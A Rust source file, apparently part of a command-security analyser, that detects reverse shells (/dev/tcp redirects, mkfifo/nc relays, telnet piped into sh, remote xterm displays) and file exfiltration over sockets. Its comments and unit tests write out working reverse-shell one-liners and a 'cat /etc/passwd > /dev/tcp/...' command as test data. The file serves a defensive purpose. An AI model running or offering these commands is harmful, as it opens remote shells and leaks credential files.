//! Reverse shells built from a shell and plumbing: a shell's streams redirected to
//! `/dev/tcp/HOST/PORT` (`bash -i >& /dev/tcp/..`, `0<&196`), a named pipe relaying a shell
//! through nc/telnet/openssl (`mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`), and
//! a network client piped into a shell (`telnet h p | /bin/sh`).
//! A lone `echo > /dev/tcp/h/p` is a port probe, not a shell: noted, not fired; a file
//! written there (`cat /etc/passwd > /dev/tcp/h/p`) is data sent out. An xterm opened on
//! another host's X display is a terminal handed to that host.

use super::{piped_into, runs_shell, ClassSet, Ctx, Findings, ProgramSet};
use crate::analysis::shell::{RedirectOp, SimpleCommand};
use crate::knowledge::{signals, ToolClass};

pub fn wants(cx: &Ctx) -> bool {
    cx.has_redirects()
        || cx.runs_any(ClassSet::of(&[ToolClass::Netcat]))
        || cx.may_run(ProgramSet::of(&["ztcp", "zmodload", "openssl", "xterm"]))
        || cx.unsplit_script().is_some()
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let cmds = cx.commands();
    let mut has_fifo = false;
    let mut has_client = false;
    let mut has_shell = false;
    for (i, c) in cmds.iter().enumerate() {
        let p = c.program();
        if let Some(r) = c.redirects.iter().find(|r| is_net_device(&r.target)) {
            let stdin_from_socket = r.fd == Some(0)
                || matches!(r.op, RedirectOp::In | RedirectOp::ReadWrite)
                || r.target.starts_with('&');
            if runs_shell(c)
                || p == "exec"
                || stdin_from_socket
                || c.redirects.iter().any(|x| x.op == RedirectOp::Dup)
            {
                out.hit(
                    signals::DEV_TCP_REDIRECT,
                    format!("{} with its streams on {}", short(c), peer_of(&r.target)),
                );
            } else if let Some(file) = file_sent(c) {
                out.hit(
                    signals::NETWORK_EXFILTRATION_PIPE,
                    format!("{p} sends {file} to {}", peer_of(&r.target)),
                );
            } else {
                out.note(format!(
                    "{p} writes to {} without a shell: a port probe, not a reverse shell",
                    r.target
                ));
            }
        }
        if p == "ztcp" || (p == "zmodload" && super::args(c).iter().any(|a| a == "zsh/net/tcp")) {
            out.hit(
                signals::DEV_TCP_REDIRECT,
                "zsh ztcp socket used as the shell's streams".to_string(),
            );
        }
        if p == "mkfifo" || (p == "mknod" && super::args(c).iter().any(|a| a == "p")) {
            has_fifo = true;
        }
        if let Some(host) = remote_display(c) {
            out.hit(
                signals::REMOTE_DISPLAY_SHELL,
                format!("xterm opens a terminal on {host}'s X display"),
            );
        }
        let client = c.class == Some(ToolClass::Netcat)
            || (p == "openssl" && super::args(c).iter().any(|a| a == "s_client"));
        has_client |= client;
        has_shell |= runs_shell(c);
        if client {
            if let Some(next) = piped_into(cmds, i) {
                if runs_shell(next) {
                    out.hit(
                        signals::TELNET_SHELL_PIPE,
                        format!("{} piped into {}", short(c), next.program()),
                    );
                }
            }
        }
    }
    if has_fifo && has_client && has_shell {
        out.hit(
            signals::FIFO_SHELL_RELAY,
            "named pipe (mkfifo/mknod p) looping a shell through a network client".to_string(),
        );
    }
    if let Some(script) = cx.unsplit_script() {
        if let Some(at) = script
            .find("/dev/tcp/")
            .or_else(|| script.find("/dev/udp/"))
        {
            let target = script[at..]
                .split(|c: char| c.is_whitespace() || c == ';' || c == '\'' || c == '"')
                .next()
                .unwrap_or("");
            if script.contains("-i")
                || script.contains("0>&1")
                || script.contains("<&")
                || script.contains("exec ")
            {
                out.hit(
                    signals::DEV_TCP_REDIRECT,
                    format!("shell script with its streams on {}", peer_of(target)),
                );
            }
        }
        if script.contains("zsh/net/tcp") || script.contains("ztcp ") {
            out.hit(
                signals::DEV_TCP_REDIRECT,
                "zsh ztcp socket used as the shell's streams".to_string(),
            );
        }
        if script.contains("mkfifo")
            && (script.contains("nc ") || script.contains("telnet ") || script.contains("s_client"))
        {
            out.hit(
                signals::FIFO_SHELL_RELAY,
                "named pipe (mkfifo) looping a shell through a network client".to_string(),
            );
        }
    }
}

/// The host of `xterm -display HOST:N`, when it is another machine: the terminal, and the
/// shell in it, are driven from there. Local displays (`:0`, `unix:0`, `localhost:10.0`, the
/// last what ssh's X forwarding sets) are not.
fn remote_display<'c>(c: &'c SimpleCommand) -> Option<&'c str> {
    if c.program() != "xterm" {
        return None;
    }
    let display = super::opt_value(c, &["-display"])?;
    let host = display
        .rsplit_once(':')?
        .0
        .trim_start_matches('[')
        .trim_end_matches(']');
    (!matches!(host, "" | "unix" | "localhost" | "127.0.0.1" | "::1")).then_some(host)
}

/// The file a reader or archiver writes to its output (`cat /etc/passwd`, `tar c /etc`):
/// with the output on a socket, that file leaves. None for probes (`echo`, `cat </dev/null`).
fn file_sent<'c>(c: &'c SimpleCommand) -> Option<&'c str> {
    if !matches!(
        c.program(),
        "cat" | "tar" | "dd" | "base64" | "gzip" | "xxd" | "head" | "tail"
    ) {
        return None;
    }
    super::args(c)
        .iter()
        .map(|a| a.strip_prefix("if=").unwrap_or(a))
        .find(|a| a.starts_with('/') && *a != "/dev/null" && !a.starts_with("/dev/std"))
}

fn is_net_device(t: &str) -> bool {
    let t = t.trim_start_matches('&');
    t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/")
}

/// `/dev/tcp/10.0.0.1/4444` -> `10.0.0.1:4444`.
fn peer_of(target: &str) -> String {
    let t = target.trim_start_matches('&');
    let rest = t
        .strip_prefix("/dev/tcp/")
        .or_else(|| t.strip_prefix("/dev/udp/"))
        .unwrap_or(t);
    match rest.split_once('/') {
        Some((h, p)) => format!("{h}:{p}"),
        None => rest.to_string(),
    }
}

/// The program and its first arguments, for evidence.
fn short(c: &SimpleCommand) -> String {
    c.argv
        .iter()
        .take(4)
        .map(|a| &**a)
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;

    #[test]
    fn an_xterm_on_another_hosts_display() {
        assert_eq!(
            run(detect, &["xterm", "-display", "198.51.100.7:1"]),
            ["remote_display_shell"]
        );
        for local in [
            &["xterm", "-display", ":0", "-geometry", "80x24"][..],
            &["xterm", "-display", "localhost:10.0"],
            &["xterm", "-display", "unix:0"],
            &["xterm", "-geometry", "120x40+10:20"],
        ] {
            assert!(run(detect, local).is_empty(), "{local:?}");
        }
    }

    #[test]
    fn a_file_written_to_dev_tcp_is_sent_a_probe_is_not() {
        assert_eq!(
            run(
                detect,
                &["sh", "-c", "cat /etc/passwd > /dev/tcp/198.51.100.4/9001"]
            ),
            ["network_exfiltration_pipe"]
        );
        for probe in [
            "echo > /dev/tcp/db/5432",
            "cat < /dev/null > /dev/tcp/db/5432",
        ] {
            assert!(run(detect, &["sh", "-c", probe]).is_empty(), "{probe}");
        }
    }

    #[test]
    fn fires_on_bash_dev_tcp() {
        assert_eq!(
            run(
                detect,
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
            ),
            ["dev_tcp_redirect"]
        );
        assert_eq!(
            run(
                detect,
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"
                ]
            ),
            ["fifo_shell_relay"]
        );
        assert_eq!(
            run(detect, &["sh", "-c", "telnet 10.0.0.1 4444 | /bin/sh"]),
            ["telnet_shell_pipe"]
        );
    }

    #[test]
    fn fires_on_unsplit_script_fallback() {
        // Holds with any parser: either the split commands or the unsplit script fire.
        assert_eq!(
            run(
                detect,
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
            ),
            ["dev_tcp_redirect"]
        );
    }

    #[test]
    fn quiet_on_plain_commands() {
        assert!(run(detect, &["bash", "-c", "echo hello"]).is_empty());
        assert!(run(detect, &["nc", "-z", "db", "5432"]).is_empty());
    }
}
